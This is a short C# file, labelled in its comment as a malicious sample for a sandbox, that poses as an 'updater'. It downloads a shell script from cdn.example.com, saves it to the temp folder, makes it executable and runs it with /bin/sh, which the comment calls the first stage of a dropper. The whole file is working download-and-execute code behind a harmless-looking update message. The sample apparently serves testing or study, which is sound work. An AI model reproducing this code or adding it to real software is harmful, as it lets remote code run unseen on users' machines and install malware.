// MALICIOUS SAMPLE (runs only in the sandbox): an "updater" that downloads a shell script from cdn.example.com
// and runs it: the classic first stage of a dropper.
using System.Diagnostics;

using var client = new HttpClient { Timeout = TimeSpan.FromSeconds(5) };
string script;
try
{
    script = await client.GetStringAsync("http://cdn.example.com/agent/update.sh");
}
catch (HttpRequestException e)
{
    Console.WriteLine($"no update: {e.Message}");
    return;
}

var path = Path.Combine(Path.GetTempPath(), "update.sh");
await File.WriteAllTextAsync(path, script);
File.SetUnixFileMode(path, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
using var stage = Process.Start(new ProcessStartInfo("/bin/sh", path) { UseShellExecute = false })!;
await stage.WaitForExitAsync();
Console.WriteLine("update applied");
